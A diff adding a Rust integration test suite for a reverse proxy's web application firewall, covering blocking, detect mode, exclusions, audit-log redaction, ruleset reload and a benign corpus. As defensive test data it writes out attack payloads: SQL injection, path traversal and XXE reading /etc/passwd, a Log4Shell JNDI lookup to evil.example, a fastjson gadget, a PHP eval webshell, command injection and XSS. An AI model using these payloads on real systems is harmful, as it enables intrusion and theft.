@@ -1,0 +1,367 @@
+//! The WAF through the real proxy: attacks in every place a value can go are blocked before the
+//! origin sees them (bodies included), detect mode logs without blocking, exclusions fix false
+//! positives, the audit log redacts secrets, broken rulesets never replace working ones, and the
+//! benign corpus passes.
+
+mod common;
+use common::*;
+use std::time::{Duration, Instant};
+
+fn site(backend: std::net::SocketAddr, waf: &str) -> String {
+    format!(
+        "{}\n[waf]\n{waf}\n",
+        simple_site("s", "s.test", &[backend], "")
+    )
+}
+
+fn rulesets_global(dir: &std::path::Path) -> String {
+    format!("rulesets_dir = \"{}\"", dir.display())
+}
+
+fn shipped_rulesets() -> std::path::PathBuf {
+    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rulesets")
+}
+
+/// (name, method, path, headers, body)
+type Case = (
+    &'static str,
+    &'static str,
+    &'static str,
+    Vec<(&'static str, &'static str)>,
+    Option<Vec<u8>>,
+);
+
+async fn send(
+    g: &Gateway,
+    method: &str,
+    path: &str,
+    headers: &[(&str, &str)],
+    body: Option<Vec<u8>>,
+) -> (u16, String) {
+    let mut r = client()
+        .request(method.parse().unwrap(), g.url(path))
+        .header("host", "s.test");
+    for (k, v) in headers {
+        r = r.header(*k, *v);
+    }
+    if let Some(b) = body {
+        r = r.body(b);
+    }
+    let resp = r.send().await.unwrap();
+    let s = resp.status().as_u16();
+    (s, resp.text().await.unwrap_or_default())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attacks_everywhere_are_blocked_before_the_origin() {
+    let o = origin("o").await;
+    let g = Gateway::start(
+        &[("s", site(o.addr, "mode = \"block\"\nparanoia = 1"))],
+        &rulesets_global(&shipped_rulesets()),
+        "",
+    );
+    let multipart = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"logo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n<?php @eval($_POST['cmd']); ?>\r\n--XyZ--\r\n".to_vec();
+    let cases: Vec<Case> = vec![
+        ("query", "GET", "/news?id=1%27%20union%20select%201,2,database()--%20-", vec![], None),
+        ("path traversal", "GET", "/download?file=../../../../etc/passwd", vec![], None),
+        ("header", "GET", "/", vec![("user-agent", "${jndi:ldap://evil.example/a}")], None),
+        ("cookie", "GET", "/", vec![("cookie", "lang=<script>alert(document.cookie)</script>")], None),
+        ("scanner", "GET", "/", vec![("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], None),
+        ("urlencoded", "POST", "/login", vec![("content-type", "application/x-www-form-urlencoded")], Some(b"user=admin&pass=x%27%20or%20%271%27%3D%271".to_vec())),
+        ("json", "POST", "/api/x", vec![("content-type", "application/json")], Some(br#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}"#.to_vec())),
+        ("xml", "POST", "/api/xml", vec![("content-type", "application/xml")], Some(br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.to_vec())),
+        ("multipart webshell", "POST", "/upload", vec![("content-type", "multipart/form-data; boundary=XyZ")], Some(multipart)),
+        ("sensitive file", "GET", "/.git/config", vec![], None),
+    ];
+    for (name, method, path, headers, body) in cases {
+        let hits = o.hits();
+        let has_body = body.is_some();
+        let (s, page) = send(&g, method, path, &headers, body).await;
+        assert_eq!(s, 403, "{name}: not blocked");
+        assert!(page.contains("访问被拒绝"), "{name}: no block page");
+        if !has_body {
+            assert_eq!(o.hits(), hits, "{name}: reached the origin");
+        }
+    }
+    // pingora sends the request header upstream before the body; the body itself is held back
+    // until inspected, so the origin never receives a blocked body.
+    assert_eq!(o.bodies(), 0, "a blocked body reached the origin");
+    // Clean requests of the same shapes pass, bodies intact.
+    let (s, body) = send(
+        &g,
+        "POST",
+        "/login",
+        &[("content-type", "application/x-www-form-urlencoded")],
+        Some(b"user=zhang&pass=Secret-2024".to_vec()),
+    )
+    .await;
+    assert_eq!(s, 200);
+    assert_eq!(echo(&body)["body_len"], 27);
+    let (s, _) = send(
+        &g,
+        "GET",
+        "/search?q=%E6%94%BF%E5%8A%A1%E5%85%AC%E5%BC%80&page=2",
+        &[],
+        None,
+    )
+    .await;
+    assert_eq!(s, 200);
+    // Metrics and access log carry the rule ids.
+    let m = client()
+        .get(g.admin_url("/metrics"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        m.contains("egret_waf_rule_matches_total{action=\"block\",rule=\""),
+        "{m}"
+    );
+    assert!(m.contains("action=\"blocked\""), "{m}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_blocked_body_never_reaches_the_origin_even_chunked() {
+    let o = origin("o").await;
+    let g = Gateway::start(
+        &[("s", site(o.addr, ""))],
+        &rulesets_global(&shipped_rulesets()),
+        "",
+    );
+    let payload = "cmd=%3Bcat%20%2Fetc%2Fpasswd";
+    let raw = format!(
+        "POST /submit HTTP/1.1\r\nHost: s.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{}\r\n{:x}\r\n{}\r\n0\r\n\r\n",
+        10,
+        &payload[..10],
+        payload.len() - 10,
+        &payload[10..]
+    );
+    let resp = raw_request(g.http, raw.as_bytes()).unwrap();
+    assert_eq!(parse_status(&resp), Some(403), "{resp}");
+    assert_eq!(o.bodies(), 0, "the origin received a body that was blocked");
+    // A clean chunked body arrives whole.
+    let raw = "POST /submit HTTP/1.1\r\nHost: s.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\na=1&b\r\n4\r\n=234\r\n0\r\n\r\n";
+    let resp = raw_request(g.http, raw.as_bytes()).unwrap();
+    assert_eq!(parse_status(&resp), Some(200), "{resp}");
+    assert!(resp.contains("\"body_len\":9"), "{resp}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn detect_mode_logs_without_blocking_and_the_audit_log_redacts_secrets() {
+    let o = origin("o").await;
+    let g = Gateway::start(
+        &[("s", site(o.addr, "mode = \"detect\""))],
+        &rulesets_global(&shipped_rulesets()),
+        "",
+    );
+    let (s, _) = send(
+        &g,
+        "POST",
+        "/login",
+        &[
+            ("content-type", "application/x-www-form-urlencoded"),
+            ("cookie", "sid=topsecretcookie"),
+        ],
+        Some(
+            b"user=admin&password=%27%20or%201%3D1--%20&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
+                .to_vec(),
+        ),
+    )
+    .await;
+    assert_eq!(s, 200, "detect mode must not block");
+    assert_eq!(o.hits(), 1);
+    let deadline = Instant::now() + Duration::from_secs(5);
+    let line = loop {
+        let text = std::fs::read_to_string(g.audit_log()).unwrap_or_default();
+        if let Some(l) = text.lines().next() {
+            break l.to_string();
+        }
+        assert!(Instant::now() < deadline, "no audit line");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    };
+    let v: serde_json::Value = serde_json::from_str(&line).unwrap();
+    assert_eq!(v["action"], "detect");
+    assert_eq!(v["site"], "s");
+    assert!(v["score"].as_u64().unwrap() >= 5);
+    assert!(!v["rules"].as_array().unwrap().is_empty());
+    assert!(
+        !line.contains("or 1=1") || !line.contains("password"),
+        "password value not redacted: {line}"
+    );
+    assert!(
+        !line.contains("topsecretcookie"),
+        "cookie leaked into the audit log: {line}"
+    );
+    // The access log carries the WAF fields.
+    let deadline = Instant::now() + Duration::from_secs(5);
+    loop {
+        let log = std::fs::read_to_string(&g.access_log).unwrap_or_default();
+        if log.contains("\"waf_action\":\"detect\"") {
+            break;
+        }
+        assert!(Instant::now() < deadline, "{log}");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn exclusions_fix_false_positives_without_opening_other_paths() {
+    let o = origin("o").await;
+    let rich =
+        "content=%3Cp%3E%E9%80%9A%E7%9F%A5%3C%2Fp%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E";
+    // Without an exclusion the editor's save is blocked.
+    let g = Gateway::start(
+        &[("s", site(o.addr, ""))],
+        &rulesets_global(&shipped_rulesets()),
+        "",
+    );
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    assert_eq!(
+        send(
+            &g,
+            "POST",
+            "/admin/article/save",
+            &form,
+            Some(rich.as_bytes().to_vec())
+        )
+        .await
+        .0,
+        403
+    );
+    drop(g);
+    // Rules tagged attack-xss ignore ARGS:content on the editor path only.
+    let waf = "[[waf.exclusions]]\ntags = [\"attack-xss\"]\npath = \"/admin/article/save\"\ntarget = \"ARGS:content\"\n";
+    let g = Gateway::start(
+        &[(
+            "s",
+            format!("{}\n{waf}", simple_site("s", "s.test", &[o.addr], "")),
+        )],
+        &rulesets_global(&shipped_rulesets()),
+        "",
+    );
+    assert_eq!(
+        send(
+            &g,
+            "POST",
+            "/admin/article/save",
+            &form,
+            Some(rich.as_bytes().to_vec())
+        )
+        .await
+        .0,
+        200
+    );
+    assert_eq!(
+        send(&g, "POST", "/other", &form, Some(rich.as_bytes().to_vec()))
+            .await
+            .0,
+        403,
+        "the exclusion leaked to another path"
+    );
+    let other_arg = "title=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E";
+    assert_eq!(
+        send(
+            &g,
+            "POST",
+            "/admin/article/save",
+            &form,
+            Some(other_arg.as_bytes().to_vec())
+        )
+        .await
+        .0,
+        403,
+        "the exclusion leaked to another argument"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_broken_ruleset_keeps_the_running_rules() {
+    let o = origin("o").await;
+    let dir = tempfile::tempdir().unwrap();
+    for f in ["core.toml", "cn-gov.toml"] {
+        std::fs::copy(shipped_rulesets().join(f), dir.path().join(f)).unwrap();
+    }
+    std::fs::create_dir_all(dir.path().join("data")).unwrap();
+    for e in std::fs::read_dir(shipped_rulesets().join("data")).unwrap() {
+        let e = e.unwrap();
+        std::fs::copy(e.path(), dir.path().join("data").join(e.file_name())).unwrap();
+    }
+    let g = Gateway::start(&[("s", site(o.addr, ""))], &rulesets_global(dir.path()), "");
+    let gen = g.generation();
+    std::fs::write(dir.path().join("bad.toml"), "name = \"bad\"\n[[rule]]\nid = 999001\nmsg = \"broken\"\nphase = \"request_headers\"\ntargets = [\"ARGS\"]\noperator = \"rx\"\nargument = \"(unclosed\"\n").unwrap();
+    let r = client()
+        .post(g.admin_url("/api/v1/reload"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 422);
+    let text = r.text().await.unwrap();
+    assert!(
+        text.contains("bad.toml:") && text.contains("999001"),
+        "{text}"
+    );
+    assert_eq!(g.generation(), gen);
+    assert_eq!(
+        send(
+            &g,
+            "GET",
+            "/news?id=1%27%20union%20select%201,2,3--%20-",
+            &[],
+            None
+        )
+        .await
+        .0,
+        403,
+        "old rules stopped working"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn benign_corpus_passes_through_the_proxy() {
+    // A sample of the benign corpus (every 10th line), sent for real.
+    let o = origin("o").await;
+    let g = Gateway::start(
+        &[("s", site(o.addr, ""))],
+        &rulesets_global(&shipped_rulesets()),
+        "",
+    );
+    let corpus = std::fs::read_to_string(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/waf/benign.jsonl"),
+    )
+    .unwrap();
+    let c = client();
+    let mut blocked = Vec::new();
+    let mut sent = 0;
+    for line in corpus.lines().step_by(10) {
+        let v: serde_json::Value = serde_json::from_str(line).unwrap();
+        let method = v["method"].as_str().unwrap_or("GET");
+        let uri = v["uri"].as_str().unwrap_or("/");
+        let Ok(m) = method.parse::<reqwest::Method>() else {
+            continue;
+        };
+        let mut r = c.request(m, g.url(uri)).header("host", "s.test");
+        for h in v["headers"].as_array().into_iter().flatten() {
+            let (Some(k), Some(val)) = (h[0].as_str(), h[1].as_str()) else {
+                continue;
+            };
+            if ["host", "content-length", "transfer-encoding", "connection"]
+                .contains(&k.to_ascii_lowercase().as_str())
+            {
+                continue;
+            }
+            r = r.header(k, val);
+        }
+        if let Some(b) = v["body"].as_str() {
+            r = r.body(b.to_string());
+        }
+        let Ok(resp) = r.send().await else { continue };
+        sent += 1;
+        if resp.status() == 403 {
+            blocked.push(uri.to_string());
+        }
+    }
+    assert!(sent >= 90, "only {sent} sent");
+    assert!(blocked.is_empty(), "benign requests blocked: {blocked:?}");
+}
